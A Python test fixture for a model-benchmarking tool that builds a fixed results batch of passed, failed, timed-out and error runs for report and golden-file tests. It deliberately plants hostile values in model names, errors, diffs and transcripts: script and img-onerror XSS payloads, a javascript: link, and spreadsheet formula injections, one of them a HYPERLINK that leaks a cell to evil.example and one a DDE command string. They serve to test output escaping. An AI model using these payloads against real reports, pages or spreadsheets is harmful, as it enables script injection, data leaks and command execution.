"""A fixed batch folder for report tests, written through the real store without calling any model.

Four models on two tasks with passed, failed, timed-out and error runs, plus a fifth model that never ran.
The data is hostile on purpose: script and img tags, an ``onerror`` attribute, a ``javascript:`` link,
quotes, U+2028, and spreadsheet formula payloads (``=HYPERLINK(...)``, ``+1``, ``-2+3``, ``@SUM``),
in model names, error messages, diffs and transcripts. One figure is negative (a cost credit).

The manifest is rewritten with a fixed batch id and date, so reports built from it are stable enough
for golden files.
"""

from __future__ import annotations

import random
from pathlib import Path
from typing import Any, cast

from benchtui.engine import metrics, rankings
from benchtui.engine.results import RESULT_KEYS, RunResult
from benchtui.engine.store import Batch, ResultsStore

BATCH_ID = "batch_20250102_030405"
CREATED_AT = "2025-01-02T03:04:05+00:00"
STARTED_AT = "2025-01-02T03:04:06+00:00"

SCRIPT_PAYLOAD = "</script><script>window.__pwned=1</script>"
IMG_PAYLOAD = '<img src=x onerror="window.__pwned=1">'
LINK_PAYLOAD = "[link](javascript:window.__pwned=1)"
HYPERLINK_PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
PLUS_PAYLOAD = "+1 more turn was needed"
MINUS_PAYLOAD = "-2+3"
AT_PAYLOAD = "@SUM(1+1)*cmd|' /C calc'!A0"
SPACED_PAYLOAD = "  =1+1"
TAB_PAYLOAD = "\t=2+2"
NEGATIVE_COST = -0.0015

TASKS = [
    {
        "id": "fizzbuzz",
        "title": "Fix FizzBuzz",
        "difficulty": "easy",
        "path": "tasks/easy/fizzbuzz",
        "fingerprint": "f1zzb0zzf1zzb0zz",
        "max_turns": 5,
        "timeout_s": 300.0,
    },
    {
        "id": "csv-quote",
        "title": 'Parse "quoted" CSV fields',
        "difficulty": "medium",
        "path": "tasks/medium/csv-quote",
        "fingerprint": "c5vqu0tec5vqu0te",
        "max_turns": 6,
        "timeout_s": 600.0,
    },
]


def _model(key: str, name: str, provider: str, display_name: str, **extra: Any) -> dict[str, Any]:
    return {
        "key": key,
        "name": name,
        "provider": provider,
        "display_name": display_name,
        "base_url": "http://127.0.0.1:11434" if provider == "ollama" else "https://api.example.invalid/v1",
        "api_key": None if provider == "ollama" else "${BENCH_KEY}",
        "settings": {"temperature": 0},
        "pricing": extra.get("pricing"),
        "edit_format": "whole",
        "categories": extra.get("categories", []),
        "details": extra.get("details", {}),
        "source": "config",
    }


MODELS = {
    "ollama_llama3": _model(
        "ollama/llama3",
        "llama3:latest",
        "ollama",
        "llama3 (Ollama)",
        categories=["local"],
        details={"family": "llama", "parameter_size": "8.0B", "quantization": "Q4_0"},
    ),
    "gpt-4o": _model("gpt-4o", "gpt-4o", "openai", "GPT-4o", pricing={"input_per_mtok": 2.5, "output_per_mtok": 10.0}),
    "evil": _model("evil", "evil-model", "openai", SCRIPT_PAYLOAD),
    "formula": _model("formula", "formula-model", IMG_PAYLOAD, HYPERLINK_PAYLOAD),
    "idle": _model("idle", "idle-model", "ollama", "Idle (never ran)"),
}

FIZZ_DIFF = """--- a/fizzbuzz.py
+++ b/fizzbuzz.py
@@ -1,7 +1,9 @@
 def fizzbuzz(n):
-    if n % 3 == 0:
+    if n % 15 == 0:
+        return "FizzBuzz"
+    if n % 3 == 0:
         return "Fizz"
     if n % 5 == 0:
         return "Buzz"
-    return n
+    return str(n)
"""

EVIL_DIFF = f"""--- a/fizzbuzz.py
+++ b/fizzbuzz.py
@@ -1,3 +1,5 @@
+# {SCRIPT_PAYLOAD}
+# {IMG_PAYLOAD}
 def fizzbuzz(n):
-    return n
+    return "Fizz" if n % 3 == 0 else str(n)  # "quoted" & {LINK_PAYLOAD}
"""


def result(task_id: str, model: str, repeat: int = 1, **values: Any) -> RunResult:
    """A result with every key of ``results.RESULT_KEYS``: plausible defaults, then ``values``."""
    base: RunResult = {
        "task_id": task_id,
        "model": model,
        "repeat": repeat,
        "status": "passed",
        "error": None,
        "error_message": None,
        "completion_time_s": 10.0,
        "model_time_s": 8.0,
        "check_time_s": 1.5,
        "ttft_s": 0.4,
        "load_time_s": 0.01,
        "tokens_per_s": 42.0,
        "prompt_tokens": 1200,
        "completion_tokens": 300,
        "cost_usd": None,
        "prompts_sent": 1,
        "human_interventions": 0,
        "hints_given": 0,
        "typed_interventions": 0,
        "malformed_replies": 0,
        "files_modified": 1,
        "lines_added": 3,
        "lines_removed": 2,
        "turns": 1,
        "request_attempts": 1,
        "sandbox": "bwrap",
        "check_output": "3 passed in 0.12s",
        "check_truncated": False,
        "resource_limit": None,
        "diff": FIZZ_DIFF,
        "transcript_file": None,
        "fingerprint": "0123456789abcdef",
        "prompt_version": "p1",
        "benchtui_version": "0.1.0",
        "started_at": STARTED_AT,
        "finished_at": STARTED_AT,
        "tokens_per_s_source": "server",
        "truncated_replies": 0,
        "history_dropped": 0,
        "queue_time_s": None,
        "cached_prompt_tokens": None,
        "prompt_eval_s": None,
        "runaway_replies": 0,
        "seed": None,
        "assistant": "benchtui",
        "assistant_version": None,
        "assistant_sandbox": None,
        "repaired_tool_calls": None,
        "model_requests": None,
        "endpoint": None,
        "cache_write_tokens": None,
    }
    merged = {**base, **values}
    assert set(merged) == set(RESULT_KEYS), set(merged) ^ set(RESULT_KEYS)
    # The overrides come by name, so mypy cannot check them; the keys are checked just above, and a
    # test may deliberately pass a value of another type (a hostile string, a status from an old file).
    return cast(RunResult, merged)


def transcript(reply: str, *, hint: str | None = None, check: str = "3 passed") -> list[dict[str, Any]]:
    """A transcript shaped like the agent's: system, prompt, reply, edits, check, and an optional hint turn."""
    entries: list[dict[str, Any]] = [
        {
            "turn": 0,
            "kind": "system",
            "at_s": 0.0,
            "role": "system",
            "content": "You are a careful programmer. Reply with whole files.",
        },
        {
            "turn": 0,
            "kind": "prompt",
            "at_s": 0.0,
            "role": "user",
            "content": "Fix fizzbuzz.py so that the tests pass.\n\nfizzbuzz.py:\n```python\ndef fizzbuzz(n):\n"
            "    return n\n```",
        },
        {
            "turn": 1,
            "kind": "reply",
            "at_s": 2.5,
            "role": "assistant",
            "content": reply,
            "prompt_tokens": 600,
            "completion_tokens": 150,
            "duration_s": 2.4,
            "tokens_per_s": 62.5,
            "finish_reason": "stop",
        },
        {"turn": 1, "kind": "edits", "at_s": 2.6, "content": "applied", "applied": 1, "failed": 0, "parsed": 1},
        {
            "turn": 1,
            "kind": "check",
            "at_s": 3.9,
            "content": check,
            "exit_code": 1 if hint else 0,
            "timed_out": False,
            "duration_s": 1.2,
        },
    ]
    if hint:
        entries += [
            {"turn": 1, "kind": "hint", "at_s": 4.0, "role": "user", "content": hint},
            {"turn": 1, "kind": "prompt", "at_s": 4.0, "role": "user", "content": f"The check failed.\n\nHint: {hint}"},
            {
                "turn": 2,
                "kind": "reply",
                "at_s": 6.0,
                "role": "assistant",
                "content": reply,
                "prompt_tokens": 640,
                "completion_tokens": 150,
                "duration_s": 2.0,
                "tokens_per_s": 75.0,
                "finish_reason": "stop",
            },
            {"turn": 2, "kind": "human", "at_s": 6.5, "role": "user", "content": "Please keep str(n)."},
        ]
    return entries


def runs() -> list[tuple[str, RunResult, list[dict[str, Any]]]]:
    """(model stem, result, transcript) of every run in the fixture."""
    whole = "fizzbuzz.py\n```python\ndef fizzbuzz(n):\n    ...\n```"
    hostile = f'{SCRIPT_PAYLOAD}\n{IMG_PAYLOAD}\n{LINK_PAYLOAD}\nShe said "done" \u2028 & <b>bold</b>'
    return [
        (
            "ollama_llama3",
            result(
                "fizzbuzz",
                "ollama/llama3",
                1,
                completion_time_s=42.5,
                prompts_sent=2,
                turns=2,
                prompt_tokens=2400,
                completion_tokens=610,
                tokens_per_s=18.25,
            ),
            transcript(whole),
        ),
        (
            "ollama_llama3",
            result(
                "fizzbuzz",
                "ollama/llama3",
                2,
                status="failed",
                completion_time_s=80.125,
                prompts_sent=4,
                turns=4,
                human_interventions=2,
                hints_given=1,
                typed_interventions=1,
                prompt_tokens=5200,
                completion_tokens=1400,
                tokens_per_s=17.5,
                check_output="FAILED test_fizz.py::test_three - "
                "AssertionError: assert 3 == 'Fizz'\n1 failed, 2 passed in 0.10s",
            ),
            transcript(whole, hint="Numbers divisible by 3 print Fizz.", check="1 failed, 2 passed"),
        ),
        (
            "ollama_llama3",
            result(
                "csv-quote",
                "ollama/llama3",
                1,
                completion_time_s=63.2,
                prompts_sent=3,
                turns=3,
                human_interventions=1,
                hints_given=1,
                prompt_tokens=4100,
                completion_tokens=980,
                tokens_per_s=19.0,
            ),
            transcript(whole, hint="Quoted fields may contain commas."),
        ),
        (
            "gpt-4o",
            result(
                "fizzbuzz",
                "gpt-4o",
                1,
                completion_time_s=12.25,
                model_time_s=9.75,
                prompt_tokens=1500,
                completion_tokens=220,
                tokens_per_s=95.5,
                tokens_per_s_source="client",
                cost_usd=0.00595,
                cached_prompt_tokens=1200,
            ),
            transcript(whole),
        ),
        (
            "gpt-4o",
            result(
                "csv-quote",
                "gpt-4o",
                1,
                status="timeout",
                error="timeout",
                error_message=PLUS_PAYLOAD,
                completion_time_s=600.0,
                prompts_sent=6,
                turns=6,
                prompt_tokens=9000,
                completion_tokens=2100,
                tokens_per_s=88.0,
                tokens_per_s_source="client",
                truncated_replies=3,
                runaway_replies=2,
                cost_usd=0.0435,
                check_output="1 failed in 0.2s",
                diff="",
            ),
            transcript(whole, check="1 failed"),
        ),
        (
            "evil",
            result(
                "fizzbuzz",
                "evil",
                1,
                completion_time_s=30.0,
                prompts_sent=2,
                turns=2,
                human_interventions=1,
                hints_given=1,
                cost_usd=NEGATIVE_COST,
                diff=EVIL_DIFF,
                lines_added=3,
                lines_removed=1,
                sandbox=SPACED_PAYLOAD,
                fingerprint=TAB_PAYLOAD,
            ),
            transcript(hostile, hint=LINK_PAYLOAD),
        ),
        (
            "evil",
            result(
                "csv-quote",
                "evil",
                1,
                status="failed",
                error_message=IMG_PAYLOAD,
                completion_time_s=45.5,
                prompts_sent=3,
                turns=3,
                malformed_replies=2,
                check_output=f"{SCRIPT_PAYLOAD}\n{LINK_PAYLOAD}",
                diff=EVIL_DIFF,
            ),
            transcript(hostile, check=SCRIPT_PAYLOAD),
        ),
        (
            "formula",
            result(
                "fizzbuzz",
                "formula",
                1,
                status="error",
                error=AT_PAYLOAD,
                error_message=MINUS_PAYLOAD,
                completion_time_s=0.5,
                model_time_s=None,
                check_time_s=None,
                ttft_s=None,
                load_time_s=None,
                tokens_per_s=None,
                tokens_per_s_source=None,
                prompt_tokens=None,
                completion_tokens=None,
                prompts_sent=1,
                turns=1,
                files_modified=0,
                lines_added=0,
                lines_removed=0,
                sandbox=None,
                check_output="",
                diff="",
            ),
            [{"turn": 1, "kind": "error", "at_s": 0.5, "content": MINUS_PAYLOAD, "error": AT_PAYLOAD, "attempts": 3}],
        ),
    ]


def build_report_batch(root: Path) -> Batch:
    """The fixture batch under ``root`` (results folder), through ``ResultsStore`` and ``Batch.record_run``."""
    store = ResultsStore(root)
    batch = store.create_batch(
        {
            "benchtui_version": "0.1.0",
            "prompt_version": "p1",
            "tasks": TASKS,
            "models": list(MODELS.values()),
            "options": {"parallel": None, "timeout_s": 1800.0, "repeats": 1, "embedded_threads": None},
            "runs_planned": 10,
            "environment": {
                "benchtui_version": "0.1.0",
                "python": "3.11.9",
                "python_implementation": "cpython",
                "os": "Linux 6.1.0",
                "machine": "x86_64",
                "cpu": "Example CPU @ 3.00GHz",
                "cpu_count": 8,
                "ollama_version": "0.5.7",
            },
        }
    )
    for stem, run, entries in runs():
        batch.record_run(MODELS[stem], stem, run, entries)
    batch.flush()
    manifest = batch.manifest()
    manifest.update(
        batch_id=BATCH_ID,
        created_at=CREATED_AT,
        status="finished",
        progress={"planned": 10, "finished": 8, "passed": 4},
    )
    batch.write_manifest(manifest)
    return batch


def synthetic_report_data(n_runs: int = 10_000, n_models: int = 20, n_tasks: int = 5, seed: int = 7) -> dict[str, Any]:
    """Report data shaped like ``build_report_data``'s, with ``n_runs`` generated runs (for timing)."""
    rng = random.Random(seed)
    tasks = [
        {
            "id": f"task-{t}",
            "title": f"Task number {t}",
            "difficulty": "medium",
            "path": f"tasks/t{t}",
            "fingerprint": f"{t:016d}",
            "max_turns": 5,
            "timeout_s": 600.0,
        }
        for t in range(n_tasks)
    ]
    models = {
        f"model-{m:02d}": _model(f"model-{m:02d}", f"model-{m:02d}", "ollama", f"Model {m:02d} <b>")
        for m in range(n_models)
    }
    keys = sorted(models)
    results: list[RunResult] = []
    for i in range(n_runs):
        status = rng.choice(("passed", "passed", "failed", "timeout", "error"))
        results.append(
            result(
                f"task-{(i // n_models) % n_tasks}",
                keys[i % n_models],
                i // (n_models * n_tasks) + 1,
                status=status,
                completion_time_s=round(rng.uniform(1, 300), 3),
                prompts_sent=rng.randint(1, 6),
                human_interventions=rng.randint(0, 2),
                error_message=None if status == "passed" else "boom <x>",
                prompt_tokens=rng.randint(500, 9000),
                completion_tokens=rng.randint(100, 3000),
                transcript_file=f"runs/{keys[i % n_models]}/task-{(i // n_models) % n_tasks}__r{i}.json",
            )
        )
    results.sort(key=lambda r: (str(r["model"]), str(r["task_id"]), int(r["repeat"])))
    aggregates = metrics.aggregate_by_model(results)
    return {
        "schema": 1,
        "batch": {
            "batch_id": "batch_synthetic",
            "created_at": CREATED_AT,
            "status": "finished",
            "tasks": tasks,
            "options": {"repeats": n_runs // (n_models * n_tasks)},
            "runs_planned": n_runs,
            "benchtui_version": "0.1.0",
            "prompt_version": "p1",
        },
        "environment": {"python": "3.11", "os": "Linux", "machine": "x86_64", "cpu": "CPU", "cpu_count": 8},
        "models": models,
        "aggregates": aggregates,
        "rankings": rankings.rank(aggregates),
        "task_matrix": metrics.task_matrix(results),
        "runs": results,
    }
